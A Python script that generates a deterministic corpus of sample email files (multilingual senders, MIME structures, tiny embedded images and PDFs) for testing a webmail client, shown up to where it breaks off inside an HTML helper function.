#!/usr/bin/env python3
"""Deterministic generator for the WebMail mail fixture corpus.

    python3 tests/Fixtures/generate_corpus.py           # regenerate Mail/ and validate it
    python3 tests/Fixtures/generate_corpus.py --check   # only validate the files already on disk

Output: tests/Fixtures/Mail/<IMAP folder>/<name>.eml (CRLF, RFC 5322) and
tests/Fixtures/Mail/README.md.  Everything is derived from SEED and fixed dates, so
running the script twice produces byte-identical files.  Only the Python 3 standard
library is used.  Regenerating deletes every *.eml under Mail/ first.

Files whose name contains ".unread." are seeded without \\Seen, ".flagged." adds
\\Flagged.  Folder "_bob/..." is seeded into bob@example.test, everything else into
alice@example.test.  See Mail/README.md for the list of special fixtures.
"""
from __future__ import annotations

import argparse
import base64
import binascii
import hashlib
import html
import json
import random
import re
import struct
import sys
import textwrap
import zlib
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from email import policy
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path

HERE = Path(__file__).resolve().parent
OUT = HERE / "Mail"
SEED = 20261120
CORPUS_END = datetime(2026, 11, 20, 0, 0, tzinfo=timezone.utc)
CORPUS_START = datetime(2025, 5, 20, 0, 0, tzinfo=timezone.utc)
CRLF = b"\r\n"
NEWEST_UNREAD = 15  # newest N INBOX messages of alice get ".unread." in their name

# --------------------------------------------------------------------------- helpers


def det_hash(*parts: object, n: int = 16) -> str:
    return hashlib.sha256("\x1f".join(str(p) for p in parts).encode("utf-8")).hexdigest()[:n]


def tz(hours: float) -> timezone:
    return timezone(timedelta(minutes=int(round(hours * 60))))


def is_ascii(s: str) -> bool:
    return all(ord(c) < 128 for c in s)


def fmt_date(d: datetime) -> str:
    return format_datetime(d)


def make_msgid(key: str, domain: str, when: datetime | None, style: int = 0) -> str:
    h = det_hash("msgid", key, n=40)
    stamp = (when or CORPUS_END).astimezone(timezone.utc).strftime("%Y%m%d%H%M%S")
    styles = [
        f"<{stamp}.{h[:16]}@{domain}>",
        f"<CA+{h[:28]}@mail.{domain}>",
        f"<{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:32]}@{domain}>",
        f"<{h[:12]}.{h[12:20]}.JavaMail.mailer@{domain}>",
    ]
    return styles[style % len(styles)]


def make_boundary(key: str, style: int = 0) -> str:
    h = det_hash("boundary", key, n=32)
    styles = [
        f"=_wm_{h[:24]}",
        f"----=_Part_{int(h[:6], 16)}_{int(h[6:14], 16)}.{int(h[14:24], 16)}",
        f"0000000000{h[:16]}",
        f"Apple-Mail={h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:32]}".upper().replace("APPLE-MAIL=", "Apple-Mail="),
    ]
    return styles[style % len(styles)]


# ---- RFC 2047 encoded words ------------------------------------------------------
Q_SAFE = set(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!*+-/")


def _q(data: bytes) -> str:
    return "".join(chr(c) if c in Q_SAFE else "_" if c == 0x20 else "=%02X" % c for c in data)


def encoded_word(chunk: str, charset: str = "utf-8", label: str = "UTF-8", enc: str = "B") -> str:
    data = chunk.encode(charset)  # strict: raises if the charset cannot represent the text
    payload = base64.b64encode(data).decode("ascii") if enc == "B" else _q(data)
    return f"=?{label}?{enc}?{payload}?="


def encode_words(text: str, charset: str = "utf-8", label: str = "UTF-8", enc: str = "B",
                 first_room: int = 66) -> str:
    """Encode text as one or more encoded-words (each <= 75 chars, whole characters
    only), folded with CRLF SP between them."""
    words: list[str] = []
    cur = ""
    room = max(first_room, 40)
    for ch in text:
        if cur and len(encoded_word(cur + ch, charset, label, enc)) > room:
            words.append(encoded_word(cur, charset, label, enc))
            cur, room = ch, 75
        else:
            cur += ch
    if cur:
        words.append(encoded_word(cur, charset, label, enc))
    return "\r\n ".join(words)


def fold_ascii(name: str, value: str, width: int = 78) -> str:
    words = value.split(" ")
    out = words[0]
    cur = len(name) + 2 + len(words[0])
    for w in words[1:]:
        if cur + 1 + len(w) > width and w:
            out += "\r\n " + w
            cur = 1 + len(w)
        else:
            out += " " + w
            cur += 1 + len(w)
    return out


def subject_value(text: str, enc: str = "B", charset: str = "utf-8", label: str = "UTF-8") -> str:
    if is_ascii(text):
        return fold_ascii("Subject", text)
    return encode_words(text, charset, label, enc, first_room=76 - len("Subject: "))


_SPECIALS = re.compile(r'[()<>\[\]:;@\\,."]')


@dataclass(frozen=True)
class Person:
    name: str
    email: str
    first: str
    tz: float = 1.0
    lang: str = "en"
    title: str = ""

    @property
    def domain(self) -> str:
        return self.email.split("@", 1)[1]

    def display(self) -> str:
        return f"{self.name} <{self.email}>" if self.name else self.email


def fmt_addr(name: str | None, addr: str, charset: str = "utf-8", label: str = "UTF-8", enc: str = "B") -> str:
    if not name:
        return addr
    if is_ascii(name):
        if _SPECIALS.search(name):
            name = '"' + name.replace("\\", "\\\\").replace('"', '\\"') + '"'
        return f"{name} <{addr}>"
    # one encoded-word where possible (<= 75 chars): some parsers (e.g. Python's address parser) wrongly keep
    # the whitespace between adjacent encoded-words in a display name
    if enc == "Q" and len(encoded_word(name, charset, label, "Q")) > 75:
        enc = "B"
    return f"{encode_words(name, charset, label, enc, first_room=75)} <{addr}>"


def addr_header(header: str, people: list[Person], enc: str = "B") -> str:
    items = [fmt_addr(p.name, p.email, enc=enc) for p in people]
    joined = ", ".join(items)
    if len(header) + 2 + len(joined) <= 78 and "\r\n" not in joined:
        return joined
    return ",\r\n ".join(items)


# ---- bodies ---------------------------------------------------------------------

def to_crlf(data: bytes) -> bytes:
    data = data.replace(b"\r\n", b"\n")
    assert b"\r" not in data, "stray CR in body"
    if not data.endswith(b"\n"):
        data += b"\n"
    return data.replace(b"\n", b"\r\n")


def qp_encode(data: bytes) -> bytes:
    data = data.replace(b"\r\n", b"\n")
    if not data.endswith(b"\n"):
        data += b"\n"
    lines = data.split(b"\n")[:-1]
    out = [binascii.b2a_qp(line, quotetabs=False, istext=False, header=False).replace(b"\n", b"\r\n")
           for line in lines]
    return b"\r\n".join(out) + b"\r\n"


def b64_encode(data: bytes) -> bytes:
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def encode_body(data: bytes, cte: str) -> bytes:
    if cte in ("7bit", "8bit"):
        return to_crlf(data)
    if cte == "quoted-printable":
        return qp_encode(data)
    if cte == "base64":
        return b64_encode(data)
    raise ValueError(cte)


@dataclass
class Entity:
    headers: list  # list[tuple[str, str | bytes]]
    body: bytes


def render_headers(headers: list) -> bytes:
    out = bytearray()
    for name, value in headers:
        vb = value if isinstance(value, bytes) else value.encode("ascii")
        out += name.encode("ascii") + b": " + vb + CRLF
    return bytes(out)


def render(e: Entity) -> bytes:
    return render_headers(e.headers) + CRLF + e.body


def text_entity(text: str, subtype: str = "plain", charset: str = "utf-8", label: str | None = None,
                cte: str | None = None, extra: tuple = (), params: str = "") -> Entity:
    label = label or charset
    data = text.replace("\r\n", "\n").encode(charset)
    if cte is None:
        cte = "7bit" if data.isascii() else "quoted-printable"
    if cte == "8bit" and data.isascii():
        cte = "7bit"
    headers = [("Content-Type", f"text/{subtype}; charset=\"{label}\"{params}"),
               ("Content-Transfer-Encoding", cte)]
    headers += list(extra)
    return Entity(headers, encode_body(data, cte))


def attachment_entity(data: bytes, ctype: str, filename: str, disposition: str = "attachment",
                      cid: str | None = None) -> Entity:
    headers = [("Content-Type", f'{ctype};\r\n name="{filename}"')]
    if cid:
        headers.append(("Content-ID", f"<{cid}>"))
    headers += [("Content-Disposition", f'{disposition};\r\n filename="{filename}"'),
                ("Content-Transfer-Encoding", "base64")]
    return Entity(headers, b64_encode(data))


def multipart(subtype: str, parts: list[Entity], boundary: str, params: str = "",
              preamble: str | None = None) -> Entity:
    body = bytearray()
    if preamble:
        body += preamble.encode("ascii") + CRLF
    for p in parts:
        body += b"--" + boundary.encode("ascii") + CRLF + render(p)
    body += b"--" + boundary.encode("ascii") + b"--" + CRLF
    ct = f'multipart/{subtype};\r\n boundary="{boundary}"'
    if params:
        ct += ";\r\n " + params
    return Entity([("Content-Type", ct)], bytes(body))


def message(top: list, entity: Entity | None, raw_body: bytes | None = None) -> bytes:
    headers = list(top)
    if entity is not None:
        headers.append(("MIME-Version", "1.0"))
        headers += entity.headers
        body = entity.body
    else:
        body = raw_body
    return render_headers(headers) + CRLF + body


def received_header(sender_domain: str, rcpt: str, when: datetime, key: str) -> str:
    h = det_hash("rcv", key, n=12).upper()
    ipnet = ["192.0.2", "198.51.100", "203.0.113"][int(h[:2], 16) % 3]
    ip = f"{ipnet}.{int(h[2:4], 16) % 250 + 2}"
    arrived = (when + timedelta(seconds=3 + int(h[4:6], 16) % 50)).astimezone(tz(1))
    return (f"from mail.{sender_domain} (mail.{sender_domain} [{ip}])\r\n"
            f"\tby mx1.example.test (Postfix) with ESMTPS id {h[:10]}\r\n"
            f"\tfor <{rcpt}>; {fmt_date(arrived)}")


# --------------------------------------------------------------------------- binaries

def make_png(width: int, height: int, pixel) -> bytes:
    """Truecolour 8-bit PNG; pixel(x, y) -> (r, g, b)."""
    raw = bytearray()
    for y in range(height):
        raw.append(0)
        for x in range(width):
            raw += bytes(pixel(x, y))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(bytes(raw), 9)) + chunk(b"IEND", b""))


def make_jpeg(width: int, height: int, block_color) -> bytes:
    """Minimal baseline JFIF, YCbCr 4:4:4, every 8x8 block a flat colour
    (DC-only coefficients).  block_color(bx, by) -> (r, g, b)."""
    assert width % 8 == 0 and height % 8 == 0

    def seg(marker: int, data: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data

    dc_bits = [0, 1, 5, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0]  # ITU T.81 K.3 luminance DC
    dc_vals = list(range(12))
    ac_bits = [1] + [0] * 15  # one symbol: EOB (0x00), code "0"
    ac_vals = [0x00]
    codes: dict[int, tuple[int, int]] = {}
    code, k = 0, 0
    for length in range(1, 17):
        for _ in range(dc_bits[length - 1]):
            codes[dc_vals[k]] = (code, length)
            code += 1
            k += 1
        code <<= 1

    out = bytearray(b"\xFF\xD8")
    out += seg(0xE0, b"JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00")
    out += seg(0xDB, b"\x00" + bytes([8] * 64))
    out += seg(0xC0, struct.pack(">BHHB", 8, height, width, 3) + bytes([1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0]))
    out += seg(0xC4, bytes([0x00]) + bytes(dc_bits) + bytes(dc_vals) + bytes([0x10]) + bytes(ac_bits) + bytes(ac_vals))
    out += seg(0xDA, bytes([3, 1, 0x00, 2, 0x00, 3, 0x00, 0, 63, 0]))

    bits: list[int] = []

    def put(value: int, n: int) -> None:
        for i in range(n - 1, -1, -1):
            bits.append((value >> i) & 1)

    pred = [0, 0, 0]
    for by in range(height // 8):
        for bx in range(width // 8):
            r, g, b = block_color(bx, by)
            ycc = (
                (299 * r + 587 * g + 114 * b) / 1000,
                (-168736 * r - 331264 * g + 500000 * b) / 1000000 + 128,
                (500000 * r - 418688 * g - 81312 * b) / 1000000 + 128,
            )
            for ci, val in enumerate(ycc):
                dc = int(round(val - 128))  # 8*(val-128) quantised by 8
                diff = dc - pred[ci]
                pred[ci] = dc
                cat = 0 if diff == 0 else abs(diff).bit_length()
                put(*codes[cat])
                if cat:
                    put(diff if diff > 0 else diff + (1 << cat) - 1, cat)
                put(0, 1)  # EOB
    while len(bits) % 8:
        bits.append(1)
    for i in range(0, len(bits), 8):
        byte = int("".join(map(str, bits[i:i + 8])), 2)
        out.append(byte)
        if byte == 0xFF:
            out.append(0x00)
    out += b"\xFF\xD9"
    return bytes(out)


def make_pdf(title: str, lines: list[str]) -> bytes:
    """A minimal but valid single-page PDF 1.4 with correct xref offsets."""
    def esc(s: str) -> str:
        return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")

    text = ["BT", "/F1 20 Tf", "72 770 Td", f"({esc(title)}) Tj", "/F1 11 Tf", "0 -30 Td", "14 TL"]
    for line in lines:
        text.append(f"({esc(line)}) Tj T*")
    text.append("ET")
    stream = ("\n".join(text) + "\n").encode("latin-1")
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"endstream",
        b"<< /Title (" + esc(title).encode("latin-1") + b") /Producer (WebMail fixture generator) >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objs, start=1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objs) + 1}\n".encode() + b"0000000000 65535 f \n"
    for off in offsets:
        out += f"{off:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R /Info 6 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def pseudo_random_bytes(n: int, key: str) -> bytes:
    out = bytearray()
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(f"{key}:{counter}".encode()).digest()
        counter += 1
    return bytes(out[:n])


# --------------------------------------------------------------------------- fixtures


@dataclass
class Fixture:
    folder: str
    stem: str
    raw: bytes
    subject: str  # decoded subject as a client should display it
    date: datetime | None
    sender: str
    to: str
    msgid: str
    kind: str  # generated | special | thread | malformed | bob
    category: str = ""
    unread: bool = False
    flagged: bool = False
    notes: str = ""
    expect: list = field(default_factory=list)  # decoded body snippets (str)
    check_subject: bool = True
    parts_desc: str = ""
    in_reply_to: str | None = None
    text_for_quote: str = ""
    # What WebMail's reader must show where it differs from a strict decoder (fallback decoding of unknown
    # charsets): body snippets, a subject prefix, and whether a character-set notice is expected.
    reader_expect: list = field(default_factory=list)
    reader_subject_prefix: str = ""
    charset_notice: bool = False
    defects_ok: bool = False  # the message is deliberately non-conformant (unknown charset): skip the defect check

    @property
    def filename(self) -> str:
        return self.stem + (".unread" if self.unread else "") + (".flagged" if self.flagged else "") + ".eml"

    @property
    def relpath(self) -> str:
        return f"{self.folder}/{self.filename}"


ALICE = Person("Alice Johnson", "alice@example.test", "Alice", 1, "en", "Engineering Lead")
BOB = Person("Bob Martin", "bob@example.test", "Bob", 1, "en", "Backend Engineer")

COLLEAGUES = [
    Person("Carol Nguyen", "carol.nguyen@example.test", "Carol", -5, "en", "Product Manager"),
    Person("Dave O'Connor", "dave.oconnor@example.test", "Dave", 0, "en", "Backend Engineer"),
    Person("Erin Walsh", "erin.walsh@example.test", "Erin", -8, "en", "Design Lead"),
    Person("François Dubois", "francois.dubois@example.test", "François", 1, "fr", "Engineering Manager"),
    Person("Jürgen Müller", "juergen.mueller@example.test", "Jürgen", 1, "de", "Site Reliability Engineer"),
    Person("Zoë Ångström", "zoe.angstrom@example.test", "Zoë", 1, "en", "QA Lead"),
    Person("Łukasz Kowalski", "lukasz.kowalski@example.test", "Łukasz", 1, "pl", "Frontend Engineer"),
    Person("Priya Raghunathan", "priya.r@example.test", "Priya", 5.5, "en", "Data Analyst"),
    Person("Chen, Wei", "wei.chen@example.test", "Wei", 8, "en", "Security Engineer"),
    Person("Ngozi Okafor", "ngozi.okafor@example.test", "Ngozi", 1, "en", "Support Lead"),
    Person("Liam Smith", "liam.smith@example.test", "Liam", -5, "en", "Finance"),
    Person("山田 太郎", "taro.yamada@example.test", "山田", 9, "ja", "Partner Manager, Tokyo"),
    Person("Ольга Смирнова", "olga.smirnova@example.test", "Ольга", 3, "ru", "Localisation Lead"),
    Person("Mateus Conceição", "mateus.conceicao@example.test", "Mateus", -3, "pt", "Mobile Engineer"),
]
COLLEAGUE_BY_FIRST = {p.first: p for p in COLLEAGUES}

FRIENDS = [
    Person("Hannah Becker", "hannah.becker@example.org", "Hannah", 1, "de"),
    Person("Camille Laurent", "camille.laurent@example.org", "Camille", 1, "fr"),
    Person("María José García", "mjgarcia@example.net", "María José", 1, "es"),
    Person("佐藤 花子", "hanako.sato@example.net", "花子", 9, "ja"),
    Person("Наталья Иванова", "natalya.ivanova@example.org", "Наталья", 3, "ru"),
    Person("Αλέξανδρος Παπαδόπουλος", "alexandros.p@example.org", "Αλέξανδρος", 2, "el"),
    Person("ليلى حداد", "layla.haddad@example.net", "ليلى", 3, "ar"),
    Person("王芳", "wang.fang@example.net", "王芳", 8, "zh"),
    Person("Agnieszka Wiśniewska", "agnieszka.w@example.org", "Agnieszka", 1, "pl"),
    Person("Søren Højlund", "soren.hojlund@example.org", "Søren", 1, "da"),
    Person("João Pereira", "joao.pereira@example.net", "João", 0, "pt"),
    Person("Tom Baker", "tom.baker@example.org", "Tom", 0, "en"),
    Person("Maya Patel", "maya.patel@example.net", "Maya", -5, "en"),
    Person("Mum", "mum@example.net", "Mum", 0, "en"),
]

TOPICS = ["IMAP sync refactor", "onboarding checklist", "search indexer", "mobile release", "security review",
          "accessibility audit", "database migration", "pricing page", "customer interviews", "conference talk",
          "support rota", "SMTP relay change", "design system", "Kubernetes upgrade", "attachment preview service",
          "spam filter tuning", "calendar integration", "quota warnings", "backup policy", "localisation workflow"]
MEETINGS = ["Monday stand-up", "sprint planning", "the design review", "the sprint retro",
            "the customer call with Northwind", "the architecture sync", "the all-hands",
            "quarterly planning", "the incident review", "the hiring debrief"]
SYSTEMS = ["the mail relay", "the staging cluster", "the VPN", "the build farm", "the wiki", "the ticket tracker",
           "the shared drive"]
WEEKDAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday"]

WORK_SUBJECTS = [
    "Notes from {meeting}", "Can you take a look at the {topic} doc?", "Update on the {topic}",
    "Question about the {topic}", "Draft proposal: {Topic}", "Heads-up: {system} maintenance on {weekday}",
    "Feedback on the {topic}", "Reminder: {topic} review due {weekday}", "Quick question",
    "{Topic} – next steps", "FYI: {topic} timeline moved", "Action items from {meeting}",
    "Budget request for the {topic}", "Agenda for {meeting}", "Sign-off needed: {topic}",
    "Out of office next week", "{Topic}: numbers for {month}", "Retro notes – {topic}",
]
WORK_SENTENCES = [
    "I went through the {topic} this morning and left a few comments inline.",
    "The short version: we are on track, but the timeline for the {topic} depends on the vendor getting back to us.",
    "Could you double-check the numbers in the second table before I send this to the wider group?",
    "Nothing has changed since last week apart from the owner for item 3.",
    "Let me know if Thursday afternoon works for a quick call.",
    "We agreed to keep the scope small for the first iteration and revisit after the beta.",
    "Two open questions remain: who owns the rollout plan, and whether we need a feature flag.",
    "The staging environment has been flaky since Tuesday; ops is looking into it.",
    "I'd rather not block the release on this, but I want to make sure we write it down.",
    "For context, the request came from the support team after several customers reported slow folder loading.",
    "Happy to pair on this if it helps.",
    "The draft is in the shared drive under Planning/2026.",
    "No rush on this \u2014 end of next week is fine.",
    "I updated the ticket with the reproduction steps and a screenshot.",
    "We measured a 30% improvement in median load time after the cache change.",
    "Please shout if I've misunderstood anything.",
    "Legal has signed off on the wording, so we only need final approval from design.",
    "The budget line for the {topic} is still pending approval from finance.",
    "I'm out on Friday, so let's aim to wrap this up by Thursday.",
    "Changes since the previous version are highlighted in yellow.",
    "The customer confirmed they can reproduce it with a fresh profile as well.",
    "We should probably loop in {colleague} since they wrote most of the original code.",
    "The dashboard shows error rates back to normal since the rollback at 14:20.",
    "I've booked the large meeting room for an hour; the invite should be in your calendar.",
    "If we ship the {topic} before the holidays, support will need updated macros.",
    "Could we move the deadline by a week? The test plan isn't ready yet.",
    "The vendor quoted \u20ac4,200 per year for the enterprise tier, which is within budget.",
    "I think the simplest option is to keep the old endpoint around for one more release.",
    "Thanks for jumping on the incident so quickly yesterday.",
    "There is a known issue with large attachments on slow connections that we haven't fixed yet.",
]
ACTION_ITEMS = ["update the rollout plan", "send the summary to the leadership list", "file tickets for the open bugs",
                "check the on-call schedule for December", "review the migration script", "prepare the demo",
                "ask finance about the renewal", "book the venue", "write the release notes",
                "collect feedback from support", "rerun the load test", "clean up old feature flags"]
OPENERS = ["Hi {first},", "Hello {first},", "Hey {first},", "{first},", "Hi all,", "Good morning {first},"]
CLOSERS = ["Thanks,", "Cheers,", "Best,", "Best regards,", "Thanks again,", "Talk soon,"]
MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August", "September", "October",
          "November", "December"]

PERSONAL = {
    "de": (["Grillabend am Samstag?", "Fotos vom Ausflug an den See", "Glückwunsch zum neuen Job!",
            "Kurze Frage zum Umzug"],
           "Hallo {first},",
           ["wie geht es dir? Wir wollen am Samstag grillen und würden uns freuen, wenn du vorbeikommst.",
            "Die Fotos vom Wochenende habe ich dir in die Cloud gelegt.",
            "Bring gerne jemanden mit – wir haben genug Würstchen und Salat.",
            "Sag mir einfach kurz Bescheid, ob es klappt.",
            "Brauchst du am Sonntag noch Hilfe beim Tragen der Kisten?"],
           "Viele Grüße"),
    "fr": (["Photos du week-end", "Dîner jeudi ?", "Le livre dont je t'ai parlé"],
           "Salut {first},",
           ["J'espère que tu vas bien !", "Je t'envoie enfin les photos du week-end à la mer.",
            "On se retrouve jeudi soir au petit restaurant près de la gare ?",
            "Le livre dont je t'ai parlé s'appelle « L'Élégance du hérisson ».",
            "Il a fait un temps magnifique, même si l'eau était un peu fraîche."],
           "Bises,"),
    "es": (["¿Cenamos el viernes?", "Fotos de la boda", "La receta de la abuela"],
           "Hola {first}:",
           ["¿Qué tal todo por ahí?", "Te mando las fotos de la boda de mi prima; salieron preciosas.",
            "¿Te apetece cenar el viernes en el restaurante de siempre?",
            "Aquí tienes la receta de la abuela: lleva azúcar, canela y mucha paciencia.",
            "Mañana te llamo para concretar la hora."],
           "Un abrazo,"),
    "ja": (["来週の打ち合わせについて", "お土産のお礼", "旅行の写真"],
           "{first}さん",
           ["こんにちは。お元気ですか？", "先日はお土産をありがとうございました。とても美味しかったです。",
            "来週の打ち合わせですが、水曜日の午後はいかがでしょうか。", "旅行の写真を共有フォルダに入れておきました。",
            "京都はもう紅葉がきれいでした。"],
           "よろしくお願いします。"),
    "ru": (["Фотографии с дачи", "Как дела?", "Книга, о которой я говорила"],
           "Привет, {first}!",
           ["Как у тебя дела? У нас всё хорошо, на даче наконец-то созрели яблоки.",
            "Посылаю тебе фотографии с выходных.",
            "Книга, о которой я говорила, называется «Мастер и Маргарита».",
            "Давай созвонимся на следующей неделе."],
           "Обнимаю,"),
    "el": (["Φωτογραφίες από την Κρήτη", "Καλημέρα από την Αθήνα"],
           "Γεια σου {first},",
           ["Σου στέλνω μερικές φωτογραφίες από το ταξίδι μας στην Κρήτη.",
            "Ο καιρός ήταν υπέροχος και η θάλασσα ζεστή.", "Πότε θα έρθεις να μας δεις;"],
           "Τα λέμε σύντομα,"),
    "ar": (["صور الرحلة إلى البتراء", "تحية من عمّان"],
           "مرحبا {first}،",
           ["أتمنى أن تكوني بخير.", "أرسلت لك صور الرحلة إلى البتراء.", "الطقس هنا جميل جدا هذه الأيام."],
           "مع أطيب التحيات،"),
    "zh": (["周末一起吃火锅吗？", "照片已上传"],
           "{first}，你好！",
           ["这个周末你有空吗？我们想一起去吃火锅。", "照片我已经上传到共享相册了。", "下次见面再好好聊。"],
           "祝好，"),
    "pl": (["Zdjęcia z Tatr", "Kawa w przyszłym tygodniu?"],
           "Cześć {first},",
           ["Wysyłam zdjęcia z wycieczki w Tatry.", "Pogoda była świetna, a widoki niesamowite.",
            "Może kawa w przyszłym tygodniu?"],
           "Pozdrawiam serdecznie,"),
    "da": (["Kaffe på søndag?", "Ny hundehvalp!"],
           "Hej {first},",
           ["Har du lyst til at komme forbi til kaffe og kage på søndag?",
            "Vi har lige fået en ny hundehvalp, som du skal møde.", "Den hedder Bølle og er meget sød."],
           "Kærlig hilsen,"),
    "pt": (["Pastéis de nata para a equipa", "Fotos da viagem"],
           "Olá {first},",
           ["Tudo bem? Acabei de voltar de Lisboa e trouxe pastéis de nata.",
            "As fotos da viagem estão no álbum partilhado.", "Vamos combinar um almoço em breve?"],
           "Um abraço,"),
    "en": (["Dinner on {weekday}?", "Photos from the hike", "Happy birthday! 🎂", "Quiz night this week?",
            "Book recommendation", "Moving boxes – do you still need them?", "Sunday roast"],
           "Hi {first},",
           ["Hope you're keeping well!", "Are you free for dinner? There's a new Lebanese place on the corner.",
            "I've put the photos from the hike in the shared album.",
            "Quiz night is on again, and we need someone who knows geography.",
            "You have to read 'Piranesi', it's short and very strange in a good way.",
            "We still have about twenty boxes in the garage if you want them.",
            "Dad says hello and asks if you've fixed the bike yet."],
           "Cheers,"),
}

PR_TITLES = ["Fix folder rename when hierarchy separator is '.'", "Add Sieve filter editor",
             "Bump MimeKit to the latest minor", "Sanitize style attributes in HTML mail", "Lazy-load the message list",
             "Support IDLE for folder updates", "Improve quota display", "Handle RFC 2231 continuations in filenames",
             "Add keyboard shortcuts help dialog", "Dark mode for the reader pane", "Cache folder counts per session",
             "Show remote-content banner for newsletters"]
ISSUE_TITLES = ["Attachments with non-ASCII names download as 'noname'", "Unread counter not updated after move",
                "Reply-all includes my own address", "Search by date range ignores timezone",
                "Inline images broken in forwarded mail", "Login page not keyboard accessible",
                "Drafts folder shows duplicate messages", "Slow opening of messages with 50+ attachments"]
FORGE_USERS = ["octo-dave", "erinw", "lkowalski", "priya-data", "wei-sec", "mateus-c", "zoe-qa"]
COMMENTS = ["I can reproduce this on the latest main build.",
            "Looks good to me, just one nit about naming.",
            "Could you add a test for the empty-folder case?",
            "This regressed in the last release; bisecting now.",
            "Closing as duplicate, see the linked issue.",
            "Tested on Firefox and Safari, works fine. Approving.",
            "The CI failure is unrelated (flaky integration test)."]

NEWSLETTERS = [
    (Person("The Weekly Byte", "newsletter@weeklybyte.example", "", 0), "weeklybyte.example", "#1a4d8f",
     ["Why your IMAP client is slower than it needs to be", "A gentle introduction to DKIM",
      "Five things we learned running Postgres at scale", "The state of web accessibility",
      "Rust, C# and the quest for memory safety", "What's new in HTTP/3", "Building a search index from scratch",
      "Keyboard-first interfaces", "The hidden cost of tracking pixels", "Dependency updates without fear"]),
    (Person("Green Thumb Monthly", "hello@greenthumb.example", "", 0), "greenthumb.example", "#2f6b3b",
     ["Planting bulbs for spring", "Composting in small spaces", "Tomatoes: the definitive guide",
      "Winter care for potted herbs", "Attracting bees to your balcony"]),
    (Person("City Library", "news@library.example", "", 1), "library.example", "#7a3e9d",
     ["New arrivals this month", "Author talk: crime fiction night", "Extended opening hours in December",
      "Children's summer reading challenge", "Digital lending now available"]),
]

SERVICE = {
    "forge": Person("Forge", "notifications@forge.example", "", 0),
    "ci": Person("CI", "ci-noreply@build.example.test", "", 0),
    "calendar": Person("Team Calendar", "calendar-noreply@example.test", "", 1),
    "bookshop": Person("Bookshop", "orders@bookshop.example", "", 0),
    "parcel": Person("Parcel Express", "tracking@parcel.example", "", 1),
    "bank": Person("Example Bank", "alerts@bank.example", "", 1),
    "security": Person("Example Account Security", "security-noreply@example.test", "", 0),
    "hr": Person("People Team", "people@example.test", "", 1),
    "travel": Person("Travel Desk", "bookings@travel.example", "", 1),
}
BOOKS = [("The Pragmatic Programmer", "39.90"), ("Designing Data-Intensive Applications", "44.50"),
         ("Piranesi", "12.99"), ("L'Élégance du hérisson", "9.80"), ("Der Zauberberg", "16.00"),
         ("Mastering Regular Expressions", "35.00"), ("The Left Hand of Darkness", "10.99")]
CITIES = ["Lisbon", "Berlin", "Kraków", "Copenhagen", "Tokyo", "Montréal", "Zürich", "Edinburgh"]


# --------------------------------------------------------------------------- generated mail


class Gen:
    def __init__(self, seed: int):
        self.rng = random.Random(seed)
        self.counter = 0
        self.friend_cycle: list[Person] = []
        self.list_threads: dict[str, tuple[str, str, str]] = {}  # list topic -> (msgid, references, text)
        self.newsletter_issue = {n[0].email: 100 + i * 37 for i, n in enumerate(NEWSLETTERS)}

    # ---- small utilities
    def pick(self, seq):
        return self.rng.choice(seq)

    def date_between(self, start: datetime, end: datetime) -> datetime:
        span_days = (end - start).days
        while True:
            day = start + timedelta(days=self.rng.randrange(span_days))
            weekend = day.weekday() >= 5
            hour = self.rng.choice([7, 8, 8, 9, 9, 9, 10, 10, 11, 11, 12, 13, 14, 14, 15, 15, 16, 16, 17, 18, 19, 21, 22])
            if weekend and self.rng.random() < 0.6:
                continue
            d = day.replace(hour=hour, minute=self.rng.randrange(60), second=self.rng.randrange(60))
            if start <= d < end:
                return d

    def paragraphs(self, n_min: int, n_max: int, topic: str) -> list[str]:
        paras = []
        for _ in range(self.rng.randint(n_min, n_max)):
            sents = self.rng.sample(WORK_SENTENCES, self.rng.randint(1, 4))
            colleague = self.pick(COLLEAGUES).first
            paras.append(" ".join(s.format(topic=topic, colleague=colleague) for s in sents))
        return paras

    @staticmethod
    def wrap(paras: list[str]) -> str:
        return "\n\n".join(textwrap.fill(p, 72, break_long_words=False, break_on_hyphens=False) for p in paras)

    @staticmethod
    def signature(p: Person) -> str:
        lines = ["-- ", p.name]
        if p.title:
            lines.append(f"{p.title}, Example Corp")
        return "\n".join(lines)

    @staticmethod
    def html_from_text(paras: list[str], sender: Person, font: str = "Calibri, Arial, sans-serif") -> str:
        body = "\n".join(f"<p style=\"margin:0 0 12px 0;\">{html.escape(p).replace(chr(10), '<br>')}</p>"
                         for p in paras)
